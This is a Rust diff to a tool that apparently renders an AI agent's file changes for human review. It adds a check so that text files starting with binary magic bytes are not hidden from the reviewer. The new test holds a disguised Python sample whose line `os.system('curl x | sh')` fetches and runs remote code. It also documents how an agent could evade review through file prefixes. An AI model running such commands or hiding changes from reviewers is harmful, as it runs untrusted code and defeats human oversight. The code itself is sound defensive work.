@@ -75,6 +75,17 @@ fn binary_format(bytes: &[u8]) -> Option<&'static str> {
     MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic)).map(|(_, name)| *name)
 }
 
+/// Whether at least a tenth of the first 8 KiB is NUL, other control bytes or invalid UTF-8.
+fn mostly_binary(bytes: &[u8]) -> bool {
+    let head = &bytes[..bytes.len().min(8192)];
+    let mut odd = 0;
+    for chunk in head.utf8_chunks() {
+        odd += chunk.invalid().len();
+        odd += chunk.valid().bytes().filter(|b| b.is_ascii_control() && !matches!(b, b'\n' | b'\r' | b'\t')).count();
+    }
+    odd * 10 >= head.len()
+}
+
 /// `bytes` as text: valid UTF-8 kept, every invalid byte as `\xNN`, secrets' spans replaced.
 pub(crate) fn escaped(bytes: &[u8], secrets: &[(usize, usize)]) -> String {
     let mut out = String::with_capacity(bytes.len());
@@ -106,7 +117,10 @@ fn push_escaped(out: &mut String, bytes: &[u8]) {
 pub(crate) fn diff(input: &Input<'_>, budget: &mut Budget) -> DiffView {
     let shown = crate::ui::escape_name(input.path);
     let summary = |text: String| DiffView { path: input.path.to_owned(), text, lines_not_shown: 0, complete: false };
-    if let Some(format) = binary_format(input.new).or_else(|| binary_format(input.old)) {
+    // The first bytes are the agent's to choose (`RIFF = 1` is Python): a file is summarised as
+    // binary only when its content is binary too.
+    let binary = |b: &[u8]| binary_format(b).filter(|_| mostly_binary(b));
+    if let Some(format) = binary(input.new).or_else(|| binary(input.old)) {
         return summary(format!(
             "{format} {shown}: {} -> {} bytes, sha256 {}: not shown as text\n",
             input.old.len(),
@@ -183,9 +197,12 @@ mod tests {
 
     #[test]
     fn binary_formats_are_summarised_and_incomplete() {
-        let view = diff(&input(b"", b"\x89PNG\r\n\x1a\nxxxx"), &mut Budget::default());
-        assert!(view.text.starts_with("PNG image run.sh: 0 -> 12 bytes"), "{}", view.text);
+        let view = diff(&input(b"", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), &mut Budget::default());
+        assert!(view.text.starts_with("PNG image run.sh: 0 -> 16 bytes"), "{}", view.text);
         assert!(!view.complete);
+        // A text file that merely starts like one is shown as text (the review of issue 19).
+        let disguised = diff(&input(b"", b"RIFF = 1\nimport os; os.system('curl x | sh')\n"), &mut Budget::default());
+        assert!(disguised.complete && disguised.text.contains("+import os"), "{}", disguised.text);
     }
 
     #[test]
